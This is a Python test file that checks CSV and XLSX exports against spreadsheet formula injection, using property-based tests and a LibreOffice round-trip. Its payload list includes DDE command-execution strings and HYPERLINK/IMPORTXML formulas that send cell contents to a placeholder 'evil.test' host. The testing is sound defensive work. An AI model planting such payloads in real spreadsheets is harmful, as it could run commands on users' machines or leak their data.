"""A spreadsheet that we give out runs nothing that somebody typed, and holds every word as it was typed.

Acceptance check 30, for CSV of any rows and for the sheets of `words export`, .csv and .xlsx.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from prototype_kit.csv_export import CellValue, is_formula, original, read_csv, safe_cell, write_csv
from prototype_kit.spreadsheet import Column, clean, read_sheet, sheet_bytes
from tests.reliability.tiers import Figures, tier

ROWS = tier(300, 5_000)

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "'=1+1",
    "''=1+1",
    "'\t=1+1",
    '"=1+1"',
    '",=1+1,"',
    '"\r\n=1+1',
    "a,=1+1",
    "a\n=1+1",
    "a\r\n=1+1,b",
    "a;=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?"&A1,"more")',
    '=IMPORTXML(CONCAT("https://evil.test?", A1), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "-07700 900 982",
    "+44 7700 900 982",
    "'quoted'",
    "O’Brien",
    "",
    "'",
    "''",
    "x" * 5_000,
)
"""What begins like a formula, tries to begin a cell of its own, or only looks odd."""

SIGNS = "=+-@＝＋－＠\t\r\n '\"\u200b\ufeff,;ab1"
CELLS = (
    st.text(SIGNS, max_size=12)
    | st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
    | st.sampled_from(PAYLOADS)
)
SHEETS = st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=6)

_BEGINS = re.compile("[\\s\x00-\x1f\u200b\ufeff]*[=+\\-@＝＋－＠]|[\t\r\n]")
"""What no cell may begin with: written anew here, so that both would have to be wrong."""


def _file(rows: Sequence[Sequence[CellValue]]) -> str:
    """The file as it goes over the line and comes back."""
    return "".join(write_csv(rows)).encode().decode("utf-8-sig")


@settings(max_examples=ROWS)
@given(rows=SHEETS)
def test_no_cell_of_any_csv_begins_like_a_formula(rows: list[list[str]]) -> None:
    """As a program reads it; there are as many cells as there were, so none began inside another."""
    cells = list(csv.reader(io.StringIO(_file(rows), newline="")))
    assert [len(row) for row in cells] == [len(row) for row in rows]
    assert [cell for row in cells for cell in row if _BEGINS.match(cell)] == []


@settings(max_examples=ROWS)
@given(rows=SHEETS)
def test_every_text_comes_back_as_it_was(rows: list[list[str]]) -> None:
    """Also what begins with apostrophes of its own."""
    assert list(read_csv(_file(rows))) == rows


@settings(max_examples=ROWS)
@given(row=st.lists(CELLS | st.integers() | st.floats(allow_nan=False, allow_infinity=False), min_size=1))
def test_numbers_come_back_as_numbers(row: list[str | int | float]) -> None:
    """To whoever reads what stands without quotes as numbers; and text that looks like one is still text."""
    (found,) = csv.reader(io.StringIO(_file([row]), newline=""), quoting=csv.QUOTE_NONNUMERIC)
    assert [cell if isinstance(cell, float) else original(cell) for cell in found] == [
        cell if isinstance(cell, str) else float(cell) for cell in row
    ]


@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
def test_what_is_no_number_is_refused(number: float) -> None:
    """Programs would take its letters for a name."""
    with pytest.raises(ValueError, match="is not a number"):
        _file([[number]])


@settings(max_examples=ROWS)
@given(text=CELLS)
def test_a_cell_is_changed_only_where_it_must_be(text: str) -> None:
    """By one apostrophe in front, which can be taken away again."""
    cell = safe_cell(text)
    assert cell in (text, f"'{text}")
    assert (cell == text) == (not is_formula(text))
    assert original(cell) == text


def test_a_thousand_rows_come_back(figures: Figures) -> None:
    """Each payload in each place of a row, again and again."""
    rows = [[PAYLOADS[(number * step) % len(PAYLOADS)] for step in (1, 7, 11)] for number in range(1_000)]
    assert list(read_csv(_file(rows))) == rows
    cells = [cell for row in csv.reader(io.StringIO(_file(rows), newline="")) for cell in row]
    formulas = sum(bool(_BEGINS.match(cell)) for cell in cells)
    assert formulas == 0
    figures.add(
        30, "cells of 1,000 rows that begin like a formula, and rows that came back otherwise", "0, 0", "0, 0"
    )


# --- The sheets of words -----------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_the_sheet_of_words_runs_nothing(tmp_path: Path, ending: str, figures: Figures) -> None:
    """No cell is a formula to the program that reads it, and the words are those that were written."""
    path = tmp_path / f"words.{ending}"
    path.write_bytes(sheet_bytes(path, [Column("Key", 10), Column("English", 40)], [
        (f"key {number}", payload) for number, payload in enumerate(PAYLOADS)
    ]))  # fmt: skip
    if ending == "xlsx":
        cells = [cell for row in load_workbook(path).worksheets[0].iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if cell.value} == {"s"}
        assert all(cell.quotePrefix for cell in cells if is_formula(str(cell.value or "")))
        with zipfile.ZipFile(path) as parts:
            assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
    else:
        read = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
        assert [cell for row in read for cell in row if _BEGINS.match(cell)] == []
    found = {row.cells["key"]: row.cells["english"] for row in read_sheet(path, ["Key", "English"])}
    assert found == {f"key {number}": clean(payload) for number, payload in enumerate(PAYLOADS)}
    figures.add(30, f"formulas in a .{ending} sheet of {len(PAYLOADS)} payloads", 0, 0)


# --- A spreadsheet program ---------------------------------------------------------------------------------

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


# Few desks have it; the tests above read the same file in another way.
@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not there to open the file with")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    """It opens the file, saves it as its own, and no cell of that is a formula."""
    path = tmp_path / "cases.csv"
    path.write_text(
        "".join(write_csv([[payload, "x"] for payload in PAYLOADS])), encoding="utf-8", newline=""
    )
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [
        str(OFFICE),
        profile,
        "--headless",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
        str(path),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=100)
    cells = [cell for row in load_workbook(tmp_path / "cases.xlsx").worksheets[0].iter_rows() for cell in row]
    assert cells
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
